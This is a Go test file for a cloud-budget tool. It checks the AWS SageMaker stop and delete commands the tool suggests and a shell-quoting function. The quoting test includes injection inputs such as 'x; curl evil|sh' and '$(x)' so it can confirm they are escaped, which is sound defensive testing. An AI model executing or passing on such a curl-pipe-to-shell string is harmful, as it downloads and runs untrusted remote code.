package budget

import (
	"testing"

	"clary/internal/resource"
)

func TestRemedy(t *testing.T) {
	t.Parallel()
	for kind, want := range map[string]Advice{
		"NotebookInstance": {"clary notebook stop x", "aws sagemaker stop-notebook-instance --notebook-instance-name x"},
		"Endpoint":         {"clary endpoint delete x", "aws sagemaker delete-endpoint --endpoint-name x"},
		"TransformJob":     {"clary run -- aws sagemaker stop-transform-job --transform-job-name x", "aws sagemaker stop-transform-job --transform-job-name x"},
		"Model":            {},
	} {
		if got := Remedy(resource.Kind(kind), "x"); got != want {
			t.Errorf("%s: %+v, want %+v", kind, got, want)
		}
	}
}

func TestQuote(t *testing.T) {
	t.Parallel()
	for s, want := range map[string]string{
		"plain-1": "plain-1", "": "''", "My budget": "'My budget'", "x; curl evil|sh": "'x; curl evil|sh'", "it's": `'it'\''s'`, "$(x)": "'$(x)'", "a\nb": "'a\nb'",
	} {
		if got := Quote(s); got != want {
			t.Errorf("%q: %s, want %s", s, got, want)
		}
	}
}
